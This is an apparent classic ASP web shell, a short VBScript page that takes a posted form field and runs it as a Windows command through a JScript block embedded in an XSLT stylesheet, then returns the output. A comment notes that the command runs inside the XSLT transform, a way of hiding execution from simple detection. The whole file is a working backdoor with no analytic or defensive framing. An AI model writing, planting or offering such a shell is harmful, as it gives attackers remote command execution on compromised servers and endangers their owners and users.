<%@ Language="VBScript" %>
<%
' the command runs inside an XSLT script block that MSXML executes during the transform
Dim xmlDoc, xslDoc, c
c = Request.Form("c")
Set xmlDoc = Server.CreateObject("MSXML2.DOMDocument")
xmlDoc.loadXML "<r><c>" & Server.HTMLEncode(c) & "</c></r>"
Set xslDoc = Server.CreateObject("MSXML2.DOMDocument")
xslDoc.loadXML "<xsl:stylesheet version=""1.0"" xmlns:xsl=""http://www.w3.org/1999/XSL/Transform"" " & _
  "xmlns:msxsl=""urn:schemas-microsoft-com:xslt"" xmlns:u=""urn:u"">" & _
  "<msxsl:script language=""JScript"" implements-prefix=""u"">" & _
  "function run(n){var s=new ActiveXObject('WScript.Shell');return s.Exec('cmd /c '+n.item(0).text).StdOut.ReadAll();}" & _
  "</msxsl:script><xsl:template match=""/""><pre><xsl:value-of select=""u:run(r/c)""/></pre></xsl:template></xsl:stylesheet>"
Response.Write xmlDoc.transformNode(xslDoc)
%>
